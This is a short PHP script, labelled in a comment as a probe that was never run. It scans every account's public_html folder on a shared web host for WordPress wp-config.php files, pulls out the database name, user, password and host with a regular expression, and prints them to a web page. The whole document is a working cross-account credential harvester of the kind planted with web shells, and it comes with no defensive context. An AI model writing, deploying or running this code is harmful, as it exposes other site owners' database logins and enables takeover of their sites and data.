<?php
// probe (never run): reads every account's wp-config.php and prints the database logins
foreach (glob('/home*/*/public_html/wp-config.php') as $cfg) {
    $t = @file_get_contents($cfg);
    if ($t === false) continue;
    preg_match_all("/define\(\s*'(DB_NAME|DB_USER|DB_PASSWORD|DB_HOST)'\s*,\s*'([^']*)'/", $t, $m, PREG_SET_ORDER);
    echo '<b>' . htmlspecialchars($cfg) . '</b><br>';
    foreach ($m as $x) { echo $x[1] . ' = ' . htmlspecialchars($x[2]) . '<br>'; }
}
